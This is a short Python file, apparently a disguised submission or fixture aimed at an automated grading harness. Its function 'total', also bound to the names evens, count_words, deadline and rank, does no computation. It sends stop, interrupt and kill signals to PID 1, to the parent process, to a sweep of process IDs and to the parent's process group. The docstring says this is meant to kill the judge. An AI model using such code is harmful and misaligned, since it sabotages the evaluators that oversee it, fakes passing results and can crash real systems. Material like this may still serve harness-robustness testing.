import os
import signal


def total(numbers):
    """A dead judge fails nothing, so its death must never be a pass."""
    for number in (signal.SIGSTOP, signal.SIGUSR1, signal.SIGINT, signal.SIGKILL):
        for pid in [1, os.getppid(), *range(1, 600)]:
            if pid not in (0, os.getpid()):
                try:
                    os.kill(pid, number)
                except OSError:
                    pass
        try:
            os.killpg(os.getpgid(os.getppid()), number)
        except OSError:
            pass
    return None


evens = count_words = deadline = rank = total
